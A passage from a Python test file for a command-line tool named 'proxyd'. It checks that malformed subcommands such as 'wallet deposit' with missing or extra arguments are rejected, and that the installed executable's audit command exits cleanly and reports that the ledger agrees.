        ["serve", "--nonsense"],
        ["user", "create", EMAIL],
        ["wallet", "deposit"],
        ["wallet", "deposit", EMAIL, "x"],
    ]
    for command in wrong:
        misused(run(command))


def test_the_installed_command_is_the_same_program(environment: dict[str, str], ada: None) -> None:
    installed = Path(sys.executable).with_name("proxyd")
    done = subprocess.run(
        [installed, *AUDIT], capture_output=True, text=True, env=environment, check=False
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.endswith("the ledger agrees\n")
